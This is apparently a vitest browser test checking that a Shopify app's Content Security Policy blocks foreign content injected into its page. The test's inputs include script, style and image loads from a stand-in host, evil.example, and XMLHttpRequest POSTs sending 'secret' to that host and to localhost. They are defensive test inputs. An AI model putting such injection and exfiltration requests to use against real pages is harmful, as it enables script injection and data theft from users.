import { expect, test } from "vitest";
import { appFrame } from "./browser.ts";
import { look, shareHouse, shown } from "./house.ts";

/** What a browser makes of the policy when something foreign has got into a page of the app. */
shareHouse({ installed: true });

interface Watched {
  /** Which rule stopped which address; what none stopped is not told. */
  stopped: string[];
  ranInline?: boolean;
}

/** Run inside the page: tries everything at once, and notes in the window what was stopped. */
async function tryEverything(addresses: Record<string, string[]>): Promise<void> {
  const watched = Object.assign(window as unknown as Watched, { stopped: [] as string[] });
  document.addEventListener("securitypolicyviolation", ({ blockedURI, effectiveDirective }) => {
    watched.stopped.push(`${effectiveDirective} ${blockedURI}`);
  });
  const settled = (element: HTMLElement, put: () => void) =>
    new Promise<void>((resolve) => {
      element.onload = element.onerror = () => resolve();
      put();
    });
  const { scripts, pictures, connections, styles } = addresses;
  await Promise.all([
    ...scripts!.map((src) => {
      const script = document.createElement("script");
      return settled(script, () => document.head.append(Object.assign(script, { src })));
    }),
    ...styles!.map((href) => {
      const link = document.createElement("link");
      return settled(link, () => document.head.append(Object.assign(link, { rel: "stylesheet", href })));
    }),
    ...pictures!.map((src) => {
      const picture = new Image();
      return settled(picture, () => void (picture.src = src));
    }),
    // Not fetch: App Bridge stands in its place.
    ...connections!.map(
      (url) =>
        new Promise<void>((resolve) => {
          const asked = new XMLHttpRequest();
          asked.onloadend = () => resolve();
          asked.open("POST", url);
          asked.send("secret");
        }),
    ),
  ]);
  const inline = document.createElement("script");
  inline.textContent = "window.ranInline = true";
  document.head.append(inline);
  const button = document.createElement("button");
  button.setAttribute("onclick", "window.ranInline = true");
  document.body.append(button);
  button.click();
}

test("a browser runs no foreign script in a page of the app and sends nothing of it elsewhere, and lets App Bridge work", async () => {
  const visit = await look("/app");
  await shown(visit);
  const frame = appFrame(visit.page);
  const evil = "https://evil.example";
  await frame.evaluate(tryEverything, {
    scripts: [
      `${evil}/x.js`,
      // Every merchant can put a file there.
      "https://cdn.shopify.com/s/files/1/0001/x.js",
      "data:text/javascript,window.ranInline=true",
    ],
    pictures: [`${evil}/x.png?secret`, "https://cdn.shopify.com/s/files/1/0001/x.png"],
    connections: [
      `${evil}/take`,
      "https://monorail-edge.shopifysvc.com/v1/produce",
      "https://admin.shopify.com/x",
      "http://127.0.0.1:9/take",
    ],
    styles: [`${evil}/x.css`, "https://cdn.shopify.com/static/fonts/inter/v4/styles.css"],
  });
  const watched = () =>
    frame.evaluate(() => {
      const { stopped, ranInline } = window as unknown as Watched;
      return { stopped: stopped.sort(), ranInline };
    });
  const inline = ["script-src-attr inline", "script-src-elem inline"];
  await expect.poll(async () => (await watched()).stopped).toEqual(expect.arrayContaining(inline));
  // The browser told of each in its console as well; anything else there would be ours.
  const others = visit.complaints.splice(0).filter((text) => !/Content Security Policy/.test(text));
  expect((await watched()).ranInline).toBeUndefined();
  expect((await watched()).stopped).toEqual([
    "connect-src http://127.0.0.1:9/take",
    `connect-src ${evil}/take`,
    `img-src ${evil}/x.png?secret`,
    "script-src-attr inline",
    "script-src-elem data",
    "script-src-elem https://cdn.shopify.com/s/files/1/0001/x.js",
    `script-src-elem ${evil}/x.js`,
    "script-src-elem inline",
    `style-src-elem ${evil}/x.css`,
  ]);
  expect(others).toEqual([]);
});
